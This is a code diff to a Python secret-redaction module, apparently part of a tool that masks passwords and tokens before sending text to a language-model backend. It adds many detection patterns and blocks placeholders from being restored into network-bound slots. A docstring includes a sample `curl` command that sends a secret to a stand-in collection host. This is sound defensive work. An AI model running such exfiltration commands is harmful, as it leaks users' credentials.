@@ -12,6 +12,7 @@ so the rest (`PGPASSWORD=`, `-p`, `https://bob:`) still tells the model what the
 
 from __future__ import annotations
 
+import functools
 import math
 import os
 import re
@@ -20,11 +21,55 @@ from urllib.parse import urlparse
 
 from . import paths
 
-_LOOPBACK = ("localhost", "127.0.0.1", "::1", "[::1]", "0.0.0.0")
 PLACEHOLDER = "REDACTED_{}"
 
-_NAME_HINT = r"[A-Za-z0-9_]*(?:PASS|PWD|SECRET|TOKEN|KEY|CREDENTIAL|AUTH)[A-Za-z0-9_]*"
+_NAME_HINT = r"[A-Za-z0-9_]*(?:PASS|PWD|PW(?![A-Za-z])|SECRET|TOKEN|KEY|CREDENTIAL|AUTH|PSK)[A-Za-z0-9_]*"
+# a key in JSON, YAML, INI or an HTTP header whose name says secret (`"password":`, `PRIVATE-TOKEN:`);
+# `authorization` has its own form, which keeps the scheme word (Basic, Bearer) readable
+_KEY_HINT = r"[\w.-]*(?:pass(?:word|wd|phrase)?|pwd|secret|token|api[_-]?key|private[_-]?key|access[_-]?key|credential)s?[\w.-]*"
 _VALUE = r"(?:\"[^\"\n]*\"|'[^'\n]*'|[^\s;&|)]+)"
+
+# Options that take a secret, per program (one spec, read as data): "-p+" also takes the value
+# attached (`mysql -phunter2`, `7z -pX`); the others take it after a space or `=`.
+SECRET_OPTIONS: dict[str, str] = {
+    "mysql mysqldump mysqladmin mysqlimport mysqlcheck mysqlshow mysqlslap mariadb mariadb-dump": "-p+ --password",
+    "zip zipcloak unzip funzip": "-P --password",
+    "7z 7za 7zz 7zr": "-p+",
+    "gpg gpg2": "--passphrase",
+    "sqlcmd bcp osql isql": "-P",
+    "ldapsearch ldapadd ldapmodify ldapdelete ldapwhoami ldappasswd ldapcompare ldapmodrdn ldapexop": "-w -s",
+    "ipmitool": "-P -k -y",
+    "az": "-p --password --client-secret",
+    "oc kubectl": "-p --password --token",
+    "mongo mongosh mongodump mongorestore mongoexport mongoimport mongostat mongotop": "-p --password",
+    "ssh-keygen": "-N -P",
+    "openssl": "-k -pass -passin -passout -password",
+    "sshpass": "-p+",
+    "redis-cli": "-a --pass --askpass",
+    "docker podman buildah skopeo helm nerdctl": "--password",
+    "snmpwalk snmpget snmpset snmpbulkwalk snmpbulkget snmptrap snmptable": "-c -A -X",
+    "keytool": "-storepass -keypass -srcstorepass -deststorepass -srckeypass -destkeypass",
+    "mosquitto_pub mosquitto_sub mosquitto_rr": "-P --pw",
+    "twine": "-p --password",
+    "pg_dump pg_restore psql": "--password",
+    "smbclient rpcclient smbmap": "--password",
+    "hydra medusa": "-p+",
+    "vault": "-token",
+    "heroku": "--password",
+    "rclone": "--password",
+    "ncftp ncftpput ncftpget lftp": "-p",
+}
+
+
+def _option_form(programs: str, options: str) -> str:
+    names = "|".join(re.escape(p) for p in programs.split())
+    opts = []
+    for o in options.split():
+        attached = o.endswith("+")
+        o = re.escape(o.rstrip("+"))
+        opts.append(f"{o}(?:=|\\s+|(?=[^\\s=-]))" if attached else f"{o}(?:=|\\s+)")
+    return rf"(?<![\w/.-])(?:{names})\b[^\n|;&]*?\s(?:{'|'.join(opts)})(?P<s>{_VALUE})"
+
 
 FORMS: list[tuple[str, re.Pattern]] = [
     (name, re.compile(rx, flags))
@@ -39,7 +84,9 @@ FORMS: list[tuple[str, re.Pattern]] = [
             re.DOTALL,
         ),
         # credentials inside URLs: user:password@host, webhook paths, token-bearing query strings
-        ("url-userinfo", r"(?i)\b[a-z][a-z0-9+.-]*://[^\s/:@]*:(?P<s>[^\s@/]+)@", 0),
+        # the password runs to the word's last `@` (`postgres://app:p@ss/w0rd@db:5432`)
+        ("url-token-user", r"(?i)\b[a-z][a-z0-9+.-]*://(?P<s>[A-Za-z0-9_-]{20,})@", 0),
+        ("url-userinfo", r"(?i)\b[a-z][a-z0-9+.-]*://[^\s/:@]*:(?P<s>[^\s]+?)@(?=[^\s@]*(?:[\s'\"]|$))", 0),
         ("slack-webhook", r"(?i)hooks\.slack\.com/(?:services|workflows|triggers)/(?P<s>[A-Za-z0-9/_-]+)", 0),
         ("discord-webhook", r"(?i)discord(?:app)?\.com/api/webhooks/(?P<s>[0-9]+/[A-Za-z0-9_-]+)", 0),
         ("teams-webhook", r"(?i)\.webhook\.office\.com/(?P<s>\S+)", 0),
@@ -61,11 +108,59 @@ FORMS: list[tuple[str, re.Pattern]] = [
         # environment assignments whose names say secret (sh, env, export, fish's set -x)
         ("env-assignment", rf"\b{_NAME_HINT}=(?P<s>{_VALUE})", re.IGNORECASE),
         ("fish-set", rf"\bset\s+(?:-[a-zA-Z]+\s+)*{_NAME_HINT}\s+(?P<s>{_VALUE})", re.IGNORECASE),
+        (
+            "key-value",
+            rf"(?i)(?:^|(?<=[\s{{,\"'(]))[\"']?{_KEY_HINT}[\"']?\s*:\s*(?P<s>\"[^\"\n]*\"|'[^'\n]*'|[^\s,;&|)}}\]'\"]+)",
+            0,
+        ),
+        # `aws configure set aws_secret_access_key X`, `git config github.token X`, `yarn config set npmAuthToken X`
+        (
+            "config-set",
+            (
+                rf"(?i)\b(?:config(?:ure)?(?:\s+set)?|set)\s+(?:--?\S+\s+)*[\w.:/-]*(?:pass(?:word|wd)?|pwd|secret|token"
+                rf"|api[_-]?key|private[_-]?key|access[_-]?key|credential|auth)[\w.-]*\s+(?P<s>{_VALUE})"
+            ),
+            0,
+        ),
+        ("credentials-pair", r"(?i)\bcredentials?\s+[^\s:]+:(?P<s>[^\s,;'\"]+)", 0),
+        ("pgpass-line", r"(?:[^\s:'\"]+:){4}(?P<s>[^\s:'\"]+)['\"]?\s*>{1,2}\s*\S*\.pgpass", 0),
+        # programs whose secret is a word in a known place
+        ("rabbitmqctl-user", rf"\brabbitmqctl\s+(?:-\S+\s+)*(?:add_user|change_password)\s+\S+\s+(?P<s>{_VALUE})", 0),
+        ("vault-login", r"\bvault\s+login\s+(?:-\S+\s+)*(?P<s>[^\s;&|-][^\s;&|]*)", 0),
+        (
+            "sudo-stdin",
+            rf"\b(?:echo|printf)\s+(?:-[neE]+\s+|['\"]%s\\n['\"]\s+)?(?P<s>{_VALUE})\s*\|\s*sudo\b[^\n|;&]*?\s-[a-zA-Z]*S",
+            0,
+        ),
+        (
+            "chpasswd",
+            r"\b(?:echo|printf)\s+(?:-[neE]+\s+)?['\"]?[^\s:'\"]+:(?P<s>[^\s'\"]+)['\"]?\s*\|\s*(?:sudo\s+(?:-\S+\s+)*)?chpasswd",
+            0,
+        ),
+        (
+            "htpasswd-b",
+            r"\bhtpasswd\s+[^\n|;&]*?-[a-zA-Z]*b[a-zA-Z]*\s[^\n|;&]*?(?P<s>[^\s;&|]+)(?=\s*(?:$|[\n|;&)]))",
+            0,
+        ),
+        ("wpa-passphrase", rf"\bwpa_passphrase\s+(?:\"[^\"]*\"|'[^']*'|\S+)\s+(?P<s>{_VALUE})", 0),
+        (
+            "nmcli-password",
+            rf"\bnmcli\b[^\n|;&]*?\s(?:password|(?:802-11-wireless-security\.|wifi-sec\.)?psk)\s+(?P<s>{_VALUE})",
+            0,
+        ),
+        ("freerdp-p", rf"\b(?:xfreerdp|wlfreerdp|sdl-freerdp|freerdp)\b[^\n|;&]*?\s/p(?:assword)?:(?P<s>{_VALUE})", 0),
+        ("netrc-line", r"(?i)\blogin\s+\S+\s+password\s+(?P<s>[^\s'\"]+)", 0),
+        (
+            "sql-password",
+            r"(?i)\b(?:identified\s+by(?:\s+password)?|with\s+(?:encrypted\s+)?password|password\s*\(?)\s*(?P<s>'[^'\n]*'|\"[^\"\n]*\")",
+            0,
+        ),
+        *[(f"option:{progs.split()[0]}", _option_form(progs, opts), 0) for progs, opts in SECRET_OPTIONS.items()],
         # options of common clients
         (
             "password-option",
             (
-                r"(?i)(?:^|\s)--?(?:password|passwd|pass|pwd|http-password|ftp-password|db-password|client-secret|"
+                r"(?i)(?:^|\s)--?(?:password|passwd|pass|pwd|passphrase|http-password|ftp-password|proxy-password|db-password|client-secret|"
                 r"secret|token|auth-token|api-key|apikey|access-key|secret-key|private-key-password)"
                 rf"(?:=|\s+)(?P<s>{_VALUE})"
             ),
@@ -101,11 +196,27 @@ FORMS: list[tuple[str, re.Pattern]] = [
         ("npm-pypi-token", r"\b(?P<s>(?:npm_[A-Za-z0-9]{30,}|pypi-[A-Za-z0-9_-]{40,}))", 0),
         ("sendgrid-key", r"\b(?P<s>SG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,})", 0),
         ("digitalocean-token", r"\b(?P<s>do[opr]_v1_[a-f0-9]{40,})", 0),
+        ("age-secret-key", r"\b(?P<s>AGE-SECRET-KEY-1[0-9A-Z]{20,})", 0),
+        # hex is also how digests look (and base32 and UUIDs are common ids), so only right after a
+        # word that says it is a key: TOTP secrets, hex API keys, UUID-shaped tokens
+        (
+            "blob-after-key-word",
+            (
+                r"(?i)\b(?:key|token|secret|apikey|api[ _-]key|password)\b\W{0,3}(?:is\s+|=\s*|:\s*)?(?P<s>[0-9a-f]{24,}"
+                r"|(?-i:[A-Z2-7]{16,}={0,6})|[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})\b"
+            ),
+            0,
+        ),
         ("jwt", r"\b(?P<s>eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,})", 0),
         # prose: "my password is hunter2", "with token abc123"
         (
             "prose-secret",
-            r"(?i)\b(?:password|passwd|passphrase|pwd|pin|token|secret|api[ _-]?key)\s*(?:[=:]|\bis\b)\s*(?P<s>[^\s,;]+)",
+            (
+                r"(?i)\b(?:password|passwd|passphrase|pass\s+phrase|passcode|pwd|pin|token|secret|api[ _-]?key"
+                r"|(?:wifi|wi-fi|wpa|wlan|network|vault|master|root|admin|access|private|encryption|license|unlock)"
+                r"\s+(?:key|code|token|pin))(?:\s+(?:for|of|to|on)\s+(?:the\s+|my\s+|our\s+)?[\w.-]+(?:\s+[\w.-]+)?)?"
+                r"\s*(?:[=:]|\bis\b)\s*(?P<s>[^\s,;]+)"
+            ),
             0,
         ),
         (
@@ -133,34 +244,72 @@ def _high_entropy(word: str) -> bool:
     return classes == 3 and _entropy(word) >= 4.0
 
 
+# where a placeholder sent back would carry the secret off the machine: inside a URL, as a DNS
+# label, or as the data or a header of a request
+_NETWORK_WORD = re.compile(r"://|^[\w.-]*REDACTED_\d+\.[A-Za-z]|[?&][\w.-]+=[^\s&]*REDACTED_")
+_DATA_OPTION = re.compile(r"^(?:-d|--data[\w-]*|-F|--form[\w-]*|-H|--header|--post-data|--body-data|--url)$")
+_WORDS = re.compile(r"""(?:[^\s'"]+|'[^']*'|"[^"]*")+""")
+
+
 class Redaction:
-    """One request's secrets: replaced on the way out, restored in what comes back."""
+    """One request's secrets: replaced on the way out, restored in what comes back.
+
+    A placeholder the server puts somewhere a request would carry it (a URL, a DNS name, the data
+    of a curl call) is restored only into the same slot it was taken from (the 4 characters
+    before it match): `https://bob:REDACTED_1@host` comes back as typed, but a server answering
+    `curl "https://x/collect?d=REDACTED_1"` gets the placeholder, not the password, and the
+    user is told (`withheld`)."""
 
     def __init__(self):
         self.secrets: list[str] = []
+        self.before: dict[str, str] = {}  # placeholder -> the 4 characters the secret followed
+        self.withheld: list[str] = []
 
-    def _placeholder(self, secret: str) -> str:
+    def _placeholder(self, secret: str, before: str = "") -> str:
         if secret not in self.secrets:
             self.secrets.append(secret)
-        return PLACEHOLDER.format(self.secrets.index(secret) + 1)
+        ph = PLACEHOLDER.format(self.secrets.index(secret) + 1)
+        self.before.setdefault(ph, before[-4:])
+        return ph
 
     def text(self, text: str) -> str:
         for _, rx in FORMS:
             text = rx.sub(lambda m: self._swap(m), text)
-        return _WORDISH.sub(lambda m: self._placeholder(m.group()) if _high_entropy(m.group()) else m.group(), text)
+        return _WORDISH.sub(
+            lambda m: self._placeholder(m.group(), m.string[: m.start()]) if _high_entropy(m.group()) else m.group(),
+            text,
+        )
 
     def _swap(self, m: re.Match) -> str:
         secret = m.group("s")
-        if not secret or secret.startswith("REDACTED_"):
+        if not secret or "REDACTED_" in secret:  # already holds a placeholder: one secret, one number
             return m.group()
         start, end = m.span("s")
         whole = m.group()
-        return whole[: start - m.start()] + self._placeholder(secret) + whole[end - m.start() :]
+        return whole[: start - m.start()] + self._placeholder(secret, m.string[:start]) + whole[end - m.start() :]
+
+    def _bound_out(self, text: str, at: int) -> bool:
+        """Is the placeholder at `at` in a place a network request would carry it?"""
+        words = list(_WORDS.finditer(text))
+        for i, w in enumerate(words):
+            if w.start() <= at < w.end():
+                prev = words[i - 1].group() if i else ""
+                return bool(_NETWORK_WORD.search(w.group()) or _DATA_OPTION.match(prev))
+        return False
 
     def restore(self, text: str) -> str:
         # highest number first, so REDACTED_1 does not eat the front of REDACTED_12
         for i in range(len(self.secrets), 0, -1):
-            text = text.replace(PLACEHOLDER.format(i), self.secrets[i - 1])
+            ph = PLACEHOLDER.format(i)
+            out, pos = [], 0
+            for m in re.finditer(re.escape(ph) + r"(?!\d)", text):
+                slot = text[max(0, m.start() - 4) : m.start()]
+                if self._bound_out(text, m.start()) and slot != self.before.get(ph):
+                    self.withheld.append(ph)
+                    continue  # left as the placeholder
+                out.append(text[pos : m.start()] + self.secrets[i - 1])
+                pos = m.end()
+            text = "".join(out) + text[pos:]
         return text
 
 
@@ -174,9 +323,29 @@ def mask_url(url: str) -> str:
     return re.sub(r"(?i)(\b[a-z][a-z0-9+.-]*://[^\s/:@]*:)[^\s@/]+@", r"\1***@", url)
 
 
+@functools.lru_cache(maxsize=32)
+def _loopback_host(host: str) -> bool:
+    """Whether every address `host` stands for is this machine. By address, never by spelling
+    (`127.llm.test` is a name like any other); a name that does not resolve counts as remote."""
+    import ipaddress
+    import socket
+
+    try:
+        ip = ipaddress.ip_address(host.strip("[]"))
+        return ip.is_loopback or ip.is_unspecified
+    except ValueError:
+        pass
+    try:
+        infos = socket.getaddrinfo(host, None)
+    except (OSError, UnicodeError):
+        return False
+    addrs = {i[4][0].split("%")[0] for i in infos}
+    return bool(addrs) and all(ipaddress.ip_address(a).is_loopback for a in addrs)
+
+
 def is_remote(url: str) -> bool:
     host = urlparse(url).hostname or ""
-    return bool(host) and host not in _LOOPBACK and not host.startswith("127.")
+    return bool(host) and not _loopback_host(host)
 
 
 def remote_notice(backend) -> str | None:
